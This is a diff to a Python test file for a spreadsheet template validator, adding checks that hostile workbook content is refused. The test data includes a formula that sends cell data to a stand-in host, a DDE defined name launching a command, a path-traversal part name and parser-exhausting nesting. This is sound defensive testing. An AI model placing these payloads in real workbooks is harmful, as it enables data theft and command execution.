@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import zipfile
 from pathlib import Path
 
@@ -76,6 +77,9 @@ OUTSIDE = ' TargetMode="External"'
         ({"xl/new.vml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}, "xl/new.vml declares"),
         ({"xl/new.xml": "<a>"}, "xl/new.xml is damaged"),
         ({"xl/new.xml": "<a/>".encode("utf-16")}, "written in UTF-16"),
+        ({"xl/new.xml": '<?xml version="1.0" encoding="ISO-8859-1"?><a/>'}, "in ISO-8859-1"),
+        ({"xl/new.xml": "<a>" * 9999 + "</a>" * 9999}, "more than 250 deep"),
+        ({"xl/worksheets/_rels/sheet1.xml.rels": "<a>" * 9999 + "</a>" * 9999}, "250 deep"),
         ({"../evil.xml": "<a/>"}, "leads out of the workbook"),
         (links("xl/_rels/workbook.xml.rels", "externalLink", "x.xml"), "refers to another workb"),
         (links("xl/_rels/workbook.xml.rels", "connections", "x.xml"), "connects to a database"),
@@ -119,6 +123,27 @@ def test_words_that_only_look_like_it_are_kept(formula: str) -> None:
     book = workbook()
     book["Summary"]["C7"] = formula
     assert opened(template(book).stamp())["Summary"]["C7"].value == formula
+
+
+@pytest.mark.parametrize("function", ["WEBSERVICE", "IMAGE", "STOCKHISTORY", "TRANSLATE"])
+def test_functions_with_the_prefix_of_a_file_are_seen(function: str) -> None:
+    """Excel shows WEBSERVICE and writes _xlfn.WEBSERVICE."""
+    book = workbook()
+    for place in ("_xlfn.", "_xlfn._xlws.", ""):
+        book["Summary"]["C7"] = f'={place}{function}("http://x/"&B2)'
+        with pytest.raises(WorkbookError, match="Summary!C7: the formula calls out"):
+            template(book)
+
+
+@pytest.mark.parametrize("hidden", [None, True])
+def test_names_that_call_out_are_refused(hidden: bool | None) -> None:
+    book = workbook()
+    text = "cmd|'/C calc'!A0"
+    book.defined_names["x"] = openpyxl.workbook.defined_name.DefinedName(
+        "x", attr_text=text, hidden=hidden
+    )
+    with pytest.raises(WorkbookError, match="name x calls out"):
+        template(book)
 
 
 def test_a_link_that_only_a_click_follows_is_kept() -> None:
@@ -182,7 +207,7 @@ def test_a_flipped_byte_never_ends_in_a_traceback(at: int, byte: int) -> None:
     st.sampled_from(
         ['r="6"', 'ref="', "<row", "A5:G7", "</f>", "Accounts", 's="', "$", "id=", ":"]
     ),
-    st.sampled_from(["", 'r="7"', "<", "&", "XFD9", "é", "-1", '"', "0", "99999999999"]),
+    st.sampled_from(["", "!", 'r="7"', "<", "&", "XFD9", "é", "-1", '"', "0", "99999999999"]),
 )
 @settings(deadline=None, max_examples=200)
 def test_a_damaged_part_never_ends_in_a_traceback(name: str, old: str, new: str) -> None:
@@ -192,6 +217,24 @@ def test_a_damaged_part_never_ends_in_a_traceback(name: str, old: str, new: str)
         made.stamp({"Accounts": accounts(3)})
     except CsmcalcError:
         return
+
+
+@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
+def test_elements_with_a_prefix_are_read(mark: bytes) -> None:
+    """Some libraries write <x:row>."""
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    changed: dict[str, bytes | str] = {}
+    for name, part in parts(GOOD).items():
+        text = part.decode()
+        if name.startswith("xl/") and f'xmlns="{main}"' in text:
+            text = re.sub(r"<(/?)(\w+)(?=[\s/>])", r"<\1x:\2", text)
+            changed[name] = mark + text.replace(f'xmlns="{main}"', f'xmlns:x="{main}"').encode()
+    assert len(changed) > 4
+    data = {"Accounts": accounts(3)}, {"rate": 2, "owner": "Ann"}
+    one, other = (opened(made.stamp(*data)) for made in (hostile(changed), template(GOOD)))
+    for sheet, its in zip(one, other, strict=True):
+        assert [[c.value for c in row] for row in sheet] == [[c.value for c in row] for row in its]
+        assert sheet.tables.keys() == its.tables.keys()
 
 
 def test_macros_are_kept_as_they_are() -> None:
